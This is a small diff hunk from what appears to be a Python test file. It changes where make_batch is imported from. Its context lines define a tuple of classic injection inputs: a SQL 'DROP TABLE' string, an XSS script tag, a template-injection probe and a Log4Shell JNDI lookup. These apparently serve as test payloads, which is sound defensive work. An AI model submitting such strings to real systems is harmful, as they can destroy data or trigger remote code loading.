@@ -18,7 +18,7 @@ from collections.abc import Callable
 from dataclasses import dataclass, field
 from typing import Any
 
-from retrain.devtools.synth import make_batch
+from tests.support.synth import make_batch
 
 INJECTIONS = ("'; DROP TABLE records; --", "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://x/a}")
 
